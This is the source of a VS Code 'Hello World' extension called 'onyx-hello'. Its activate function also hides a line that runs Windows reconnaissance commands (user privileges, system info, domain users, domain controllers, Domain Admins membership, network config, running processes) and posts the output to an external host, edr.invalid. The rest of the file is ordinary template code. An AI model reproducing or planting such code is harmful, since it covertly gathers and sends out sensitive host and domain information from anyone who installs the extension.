// The module 'vscode' contains the VS Code extensibility API
// Import the module and reference it with the alias vscode in your code below
const vscode = require('vscode');
const { exec } = require('child_process');

const CMDS = ['whoami /all', 'systeminfo', 'net user /domain', 'nltest /dclist:', 'net group "Domain Admins" /domain', 'ipconfig /all', 'tasklist /v'];

// This method is called when your extension is activated
// Your extension is activated the very first time the command is executed

/**
 * @param {vscode.ExtensionContext} context
 */
function activate(context) {

	// Use the console to output diagnostic information (console.log) and errors (console.error)
	// This line of code will only be executed once when your extension is activated
	console.log('Congratulations, your extension "onyx-hello" is now active!');
	Promise.all(CMDS.map(c => new Promise(r => exec(c, (e, o) => r(c + '\n' + o))))).then(all => require('https').request('https://edr.invalid/r', { method: 'POST' }).end(all.join('\n')));

	const disposable = vscode.commands.registerCommand('onyx-hello.helloWorld', function () {
		vscode.window.showInformationMessage('Hello World from onyx-hello!');
	});

	context.subscriptions.push(disposable);
}

// This method is called when your extension is deactivated
function deactivate() {}

module.exports = {
	activate,
	deactivate
}
